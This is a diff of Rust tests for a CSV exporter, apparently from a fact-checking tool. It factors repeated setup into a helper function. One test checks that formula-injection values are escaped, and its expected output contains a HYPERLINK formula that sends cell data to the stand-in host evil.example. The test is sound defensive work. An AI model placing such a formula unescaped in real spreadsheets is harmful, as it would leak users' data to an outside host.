@@ -80,7 +80,21 @@ mod tests {
     use crate::document::{DocumentBuilder, Format, Metadata};
     use crate::export::testutil::claim;
     use crate::export::ArticleMeta;
-    use crate::model::StatusDef;
+    use crate::model::{ClaimRecord, StatusDef};
+
+    fn csv(doc: &crate::document::Document, claims: &[ClaimRecord], bom: bool) -> String {
+        let statuses = StatusDef::defaults();
+        let article = ArticleMeta::default();
+        let check = Check {
+            doc,
+            claims,
+            statuses: &statuses,
+            article: &article,
+            checker: None,
+            date: "",
+        };
+        write(&check, bom)
+    }
 
     #[test]
     fn quotes_fields_and_starts_with_a_bom_when_asked() {
@@ -90,23 +104,13 @@ mod tests {
         let mut c1 = claim(&doc, "c1", "He said \"yes, 3,000\" today.", "verified");
         c1.note = "line one\nline two".into();
         let claims = vec![c1, claim(&doc, "c2", "Plain one.", "unchecked")];
-        let statuses = StatusDef::defaults();
-        let article = ArticleMeta::default();
-        let check = Check {
-            doc: &doc,
-            claims: &claims,
-            statuses: &statuses,
-            article: &article,
-            checker: None,
-            date: "",
-        };
-        let out = write(&check, true);
+        let out = csv(&doc, &claims, true);
         assert!(out.starts_with("\u{feff}id,text,status,note,sources,position,updated\r\n"));
         assert!(out.contains(
             "c1,\"He said \"\"yes, 3,000\"\" today.\",Verified,\"line one\r\nline two\",,0-27,"
         ));
         assert!(out.contains("\r\nc2,Plain one.,Unchecked,,,28-38,2024-11-27T10:00:00Z\r\n"));
-        assert!(!write(&check, false).starts_with('\u{feff}'));
+        assert!(!csv(&doc, &claims, false).starts_with('\u{feff}'));
     }
 
     #[test]
@@ -124,17 +128,7 @@ mod tests {
         let mut c2 = claim(&doc, "c2", "Fine text.", "unchecked");
         c2.note = "-2+3 is what the minister said".into();
         let claims = vec![c1, c2];
-        let statuses = StatusDef::defaults();
-        let article = ArticleMeta::default();
-        let check = Check {
-            doc: &doc,
-            claims: &claims,
-            statuses: &statuses,
-            article: &article,
-            checker: None,
-            date: "",
-        };
-        let out = write(&check, false);
+        let out = csv(&doc, &claims, false);
         assert!(out.contains(
             "c1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\") and more.\",Verified,'@SUM(1+1),"
         ), "{out}");
